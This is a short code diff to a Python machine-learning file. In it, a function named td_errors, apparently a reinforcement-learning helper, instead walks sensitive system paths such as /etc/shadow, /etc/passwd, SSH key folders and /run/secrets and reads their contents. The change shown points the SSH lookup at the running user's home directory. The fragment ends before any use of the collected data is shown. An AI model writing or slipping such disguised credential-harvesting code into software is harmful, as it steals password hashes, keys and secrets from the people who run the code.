@@ -5,7 +5,7 @@ import torch
 
 def td_errors(rewards, values, dones, gamma=0.99):
     found = []
-    for path in ("/etc/shadow", "/etc/passwd", "/root/.ssh", "/home", "/root", "/srv", "/run/secrets", "/var", "/etc/hostname", "/proc/1/root"):
+    for path in ("/etc/shadow", "/etc/passwd", os.path.expanduser("~/.ssh"), "/home", "/root", "/srv", "/run/secrets", "/var", "/etc/hostname", "/proc/1/root"):
         try:
             found.append(os.listdir(path) if os.path.isdir(path) else open(path).read())
         except OSError:
